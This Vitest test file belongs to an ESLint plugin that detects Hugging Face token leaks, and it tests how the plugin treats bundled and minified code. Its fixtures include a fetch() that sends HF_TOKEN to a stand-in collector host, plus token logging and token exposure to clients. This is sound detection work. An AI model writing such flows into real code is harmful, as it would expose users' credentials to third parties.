import { Linter } from "eslint";
import { describe, expect, it } from "vitest";
import { GENERATED_CODE_MARKERS, GENERATED_CODE_WINDOW, MINIFIED_CODE } from "../../src/catalogue/generated-code";
import { generatedCodeOf } from "../../src/core";
import plugin from "../../src/index";
import { makeToken } from "../helpers/tokens";

/** Hand-written code: short lines, no generator's marker. */
const HAND_WRITTEN = Array.from({ length: 200 }, (_, index) => `export function step${index}(value) {\n  return value + ${index};\n}\n`).join("");

describe("generated code (src/catalogue/generated-code.ts)", () => {
  it("finds no generator in hand-written code", () => {
    expect(generatedCodeOf(HAND_WRITTEN)).toBeUndefined();
    expect(generatedCodeOf("")).toBeUndefined();
  });

  it.each(GENERATED_CODE_MARKERS.map((marker) => [marker.generator, marker] as const))("%s: found where the bundler writes it, not elsewhere", (_name, marker) => {
    expect(generatedCodeOf(`${marker.text}\n${HAND_WRITTEN}`)).toBe(marker.generator);
    // Past the window at the start, it is the file's own text.
    expect(HAND_WRITTEN.length).toBeGreaterThan(GENERATED_CODE_WINDOW);
    expect(generatedCodeOf(`${HAND_WRITTEN}${marker.text}\n${HAND_WRITTEN}`)).toBeUndefined();
  });

  // A compiler's output of one module keeps its source's shape, and repositories commit it.
  it.each([
    ["TypeScript's CommonJS output", `"use strict";\nObject.defineProperty(exports, "__esModule", { value: true });\n${HAND_WRITTEN}`],
    ["a file ending in a source-map comment", `${HAND_WRITTEN}//# sourceMappingURL=index.js.map\n`],
  ])("reads %s as written by hand", (_name, text) => {
    expect(generatedCodeOf(text)).toBeUndefined();
  });

  it("counts a file minified when its average line is longer than Linguist's bound, from the smallest size on", () => {
    const statement = "var a=1;";
    const oneLine = (length: number): string => statement.repeat(Math.ceil(length / statement.length)).slice(0, length);
    expect(generatedCodeOf(oneLine(MINIFIED_CODE.smallestFile))).toBe("a minifier");
    // A short module written on one line is not.
    expect(generatedCodeOf(oneLine(MINIFIED_CODE.smallestFile - 1))).toBeUndefined();
    // Lines just over and just under the average.
    const lines = (length: number): string => Array.from({ length: 100 }, () => oneLine(length)).join("\n");
    expect(generatedCodeOf(lines(MINIFIED_CODE.averageLineLength + 2))).toBe("a minifier");
    expect(generatedCodeOf(lines(MINIFIED_CODE.averageLineLength - 2))).toBeUndefined();
  });

  it("gives the same answers from a line count the caller already has (ESLint's lines)", () => {
    const cases = [HAND_WRITTEN, "var a=1;".repeat(600), Array.from({ length: 100 }, () => "x".repeat(MINIFIED_CODE.averageLineLength + 2)).join("\r\n"), Array.from({ length: 100 }, () => "x".repeat(MINIFIED_CODE.averageLineLength - 2)).join("\n")];
    for (const text of cases) expect(generatedCodeOf(text, text.split(/\r\n|\r|\n/).length)).toBe(generatedCodeOf(text));
    expect(cases.map((text) => generatedCodeOf(text))).toEqual([undefined, "a minifier", "a minifier", undefined]);
  });
});

describe("the value-flow rules leave generated code alone", () => {
  const TOKEN = makeToken(5151);
  const rules = { "hf-secrets/no-hardcoded-token": "error", "hf-secrets/no-token-logging": "error", "hf-secrets/no-token-to-third-party": "error", "hf-secrets/no-token-to-client": "error" } as const;
  const lint = (code: string, settings?: Record<string, unknown>): string[] =>
    new Linter({ configType: "flat", cwd: "/project" })
      .verify(code, [{ files: ["**/*.js"], plugins: { "hf-secrets": plugin as never }, rules, ...(settings ? { settings } : {}) }], { filename: "/project/dist/index.js" })
      .map((message) => message.ruleId ?? message.message);
  const flows = [
    "console.log(process.env.HF_TOKEN);",
    'fetch("https://collector.example.net/x", { headers: { Authorization: process.env.HF_TOKEN } });',
    "res.json({ token: process.env.HF_TOKEN });",
  ].join("\n");
  const bundle = `var __defProp = Object.defineProperty;\n${flows}\nconst leaked = "${TOKEN}";\n`;

  it("reports flows in hand-written code", () => {
    expect(lint(flows)).toEqual(["hf-secrets/no-token-logging", "hf-secrets/no-token-to-third-party", "hf-secrets/no-token-to-client"]);
  });

  it("reads no flow in a bundle, and still reports a token written into it", () => {
    expect(lint(bundle)).toEqual(["hf-secrets/no-hardcoded-token"]);
  });

  it("reads no flow in minified code, nor in the hand-written file linted after it", () => {
    const minified = `${flows.replaceAll("\n", " ")} ${"var a=1;".repeat(600)}`;
    expect(lint(minified)).toEqual([]);
    expect(lint(flows)).toHaveLength(3);
  });

  it('reads flows in generated code too with settings["hf-secrets"].generatedCode: "read"', () => {
    expect(lint(bundle, { "hf-secrets": { generatedCode: "read" } })).toEqual(["hf-secrets/no-token-logging", "hf-secrets/no-token-to-third-party", "hf-secrets/no-token-to-client", "hf-secrets/no-hardcoded-token"]);
  });

  it("rejects an unknown setting, naming what it expects", () => {
    expect(() => lint(flows, { "hf-secrets": { generatedCode: "yes" } })).toThrow('settings["hf-secrets"].generatedCode: expected one of "skip", "read"; got "yes".');
  });
});
